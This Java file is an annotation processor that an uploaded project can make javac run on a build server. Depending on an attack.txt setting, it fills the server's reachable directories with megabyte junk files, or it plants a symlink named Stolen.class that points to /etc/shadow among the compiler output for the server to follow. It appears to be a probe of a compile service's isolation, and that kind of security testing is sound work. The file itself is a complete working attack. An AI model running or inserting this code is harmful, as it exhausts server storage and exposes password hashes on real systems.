// Code an upload makes javac run at compile time: an annotation processor (this class,
// compiled, with META-INF/services/javax.annotation.processing.Processor naming it) on the
// class path, which javac searches for processors, and which is the upload's own directory.
// What it does comes from the upload's attack.txt; it reports on stderr what it managed.
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.RoundEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

@SupportedAnnotationTypes("*")
public class Processor extends AbstractProcessor {
    private static boolean done = false;

    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latestSupported();
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        if (done) return false;
        done = true;
        try {
            String attack = new String(Files.readAllBytes(Paths.get("attack.txt"))).trim();
            if (attack.equals("fill")) fill();
            if (attack.equals("link")) link();
        } catch (IOException error) {
            System.err.println("attack: " + error);
        }
        return false;
    }

    // Fill every directory it can reach that is on the server's disk: the output directory
    // javac was told (build/classes), its parent, and the upload's own directory.
    private static void fill() {
        String here = System.getProperty("user.dir");
        for (String dir : new String[] {"build/classes", "build", ".", here, here + "/build"}) {
            for (int i = 0; i < 8; i++) {
                File target = new File(dir, "fill" + i);
                try (FileOutputStream out = new FileOutputStream(target)) {
                    out.write(new byte[1 << 20]);
                    System.err.println("WROTE " + target);
                } catch (IOException error) {
                    break;
                }
            }
        }
    }

    // Leave a symlink among the compiler's output, for the server to follow.
    private static void link() throws IOException {
        Path dir = Paths.get("/tmp/build/classes");
        Files.createDirectories(dir);
        Files.createSymbolicLink(dir.resolve("Stolen.class"), Paths.get("/etc/shadow"));
        System.err.println("LINKED");
    }
}
